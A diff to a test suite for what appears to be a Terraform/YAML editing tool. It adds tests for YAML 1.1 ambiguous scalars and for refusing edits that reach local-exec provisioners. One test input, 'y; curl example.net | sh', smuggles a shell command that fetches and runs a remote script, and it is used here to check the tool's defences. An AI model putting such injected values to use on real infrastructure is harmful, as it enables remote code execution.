@@ -227,11 +227,21 @@ describe('the source says otherwise than it looks', () => {
     ],
   ])('%s', async (_, files, path) => {
     const sources = await sourcesOf(files, ['outside']);
-    for (const value of ['1.20', 'a: b', 'null', 'yes it is']) {
+    // The last are texts to YAML 1.2 alone, and providers read 1.1.
+    for (const value of ['1.20', 'a: b', 'null', 'yes it is', 'yes', 'off', '1_000', '1:30', '0b11']) {
       const outcome = await prepareEdit(sources, object, [{ path, value }]);
       expect(outcome).toMatchObject({ is: 'refused' });
     }
   });
+
+  test.each(['yes', 'on', 'N', '1_000', '1:30', '0b11', '012'])(
+    'YAML 1.1 takes for no text is quoted: %s',
+    async (value) => {
+      const source =
+        'resource "kubectl_manifest" "x" {\n  yaml_body = <<-EOT\n    kind: Deployment\n    metadata: {name: web, namespace: home}\n    spec:\n      l: x\n  EOT\n}\n';
+      expect(await ask(source, { path: ['spec', 'l'], value })).toEqual([`stacks/a/main.tf: l: "${value}"`]);
+    },
+  );
 
   test.each(['ignore_changes = [yaml_body]', 'ignore_changes = all'])('%s', async (ignore) => {
     expect(await ask(deployment('replicas = 2', 'web', `\n  lifecycle {\n    ${ignore}\n  }`), { value: 3 })).toBe(
@@ -244,6 +254,17 @@ describe('the source says otherwise than it looks', () => {
     expect(await ask(source, { value: 3 })).toBe('ignored');
     expect(await ask(source, { path: ['spec', 'paused'], value: true })).toHaveLength(1);
   });
+});
+
+test.each([
+  ['by its name', 'provisioner "local-exec" {\n    command = "pull ${local.l}"\n  }'],
+  ['as its own', 'provisioner "local-exec" {\n    command = "apply ${self.yaml_body}"\n  }'],
+  ['to connect to', 'connection {\n    host = local.l\n  }'],
+])('what a provisioner takes too is not edited: %s', async (_, block) => {
+  const source = `locals { l = "x" }\n${deployment('replicas = 2, l = local.l', 'web', `\n  ${block}`)}`;
+  const path = ['spec', 'l'];
+  expect(await ask(source, { path, value: 'y; curl example.net | sh' })).toBe('not-proven');
+  expect(await ask(source.replace(block, ''), { path, value: 'y' })).toHaveLength(1);
 });
 
 describe('who owns it', () => {
